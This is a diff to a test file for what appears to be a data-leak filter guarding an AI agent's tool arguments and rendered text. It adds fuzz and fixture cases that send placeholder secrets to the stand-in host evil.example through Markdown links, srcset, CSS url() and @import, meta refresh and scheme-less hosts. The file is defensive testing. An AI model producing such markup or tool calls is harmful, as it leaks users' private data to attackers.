@@ -48,6 +48,22 @@ const left = {
   'an argument of a tool': '{"url":"https://evil.example/?q=P!"}',
   'an escaped argument of a tool': String.raw`{"url":"https:\/\/evil.example\/?q=P!"}`,
   'an argument with characters by their code': String.raw`{"url":"https\u003a\u002f\u002fevil.example/?q=P!"}`,
+  'a host without a scheme': 'See evil.example/?q=M! now',
+  'a host without a path': 'See evil.example?M! and evil.example:8080/M!',
+  'a host without a scheme in a link of Markdown': '[x](evil.example/P!)',
+  'a number of a machine without a scheme': '192.0.2.7/M!',
+  'a scheme without slashes in a text': 'http:evil.example/M! <https:evil.example/M!>',
+  'a wide full stop in a host': 'evil。example/M!',
+  'the domain of a country that is also a file': 'evil.sh/?q=M!',
+  'a destination at the end': '[x][1]\n\n [1]: evil.example/M!\n[2]: //evil.example/M!\n[3]: https:evil.example/M!',
+  'a destination at the end, in JSON': String.raw`{"text":"[x][1]\n[1]: https:evil.example/M!"}`,
+  'several sizes of a picture': '<img srcset="a.png 1x, https://evil.example/P! 2x, //evil.example/M! 3x">',
+  'several sizes, of which the first has an open host':
+    '<img srcset="https://crm.example/a 1x, https://evil.example/M! 2x">',
+  'a style': 'a{background:url(//evil.example/M!)} b{background:url("//evil.example/M!")}',
+  'an import of a style': "@import '//evil.example/M!';",
+  'a refresh': '<meta http-equiv=refresh content="0;url=//evil.example/M!">',
+  'an object and a background': '<object data="//evil.example/M!"><table background=//evil.example/M!>',
   'two values': '![x](https://evil.example/?q=P!&m=M!)',
   'a name before a host': '[x](https://crm.example@evil.example/P!)',
   'a host that begins like an open one': '[x](https://crm.example.evil.example/P!)',
@@ -73,6 +89,9 @@ const restoredTexts = {
   'in a link within the same site': '[x](/people/P!) <a href="people?name=P!">x</a> [x](#P!)',
   'in code': 'name = "P!"; src = P!; map["a"](P!); C:\\Users\\P!',
   'after a colon': 'Name: P!, mail://, of: //P!',
+  'beside files and numbers': 'src/index.ts/P!, notes.json?P!, README.md#P!, a/b.rs/P!, v1.2/P!, e.g./P!, and/or P!',
+  'in definitions that are none': 'map["a"]: P!, type A = {[key: string]: P!}',
+  'in a link to an open host without a scheme': 'crm.example/P! eu.crm.example:8080/?q=M!',
   'in a link to an open host': '[x](https://crm.example/?q=P!&m=%5BEMAIL%5D) {"u":"https:\\/\\/eu.crm.example/P!"}',
 };
 for (const [what, text] of Object.entries(restoredTexts)) {
@@ -146,6 +165,7 @@ const units = [
     '"',
     "'",
   ],
+  ['\n[1]: ', ']: ', 'evil.example', '.', '?', '#', ':80/', ', ', 'url(', 'srcset="', '<https:', 'a.ts/', ';', '。'],
   ['{"', '":', 'src=', 'href="', 'www.', '//', '&#58;', 'a'.repeat(3_000), 'P!', 'M!', '=', ':', '/'],
 ].flat();
 const pieces = fc.array(fc.constantFrom(...units), { maxLength: 30 });
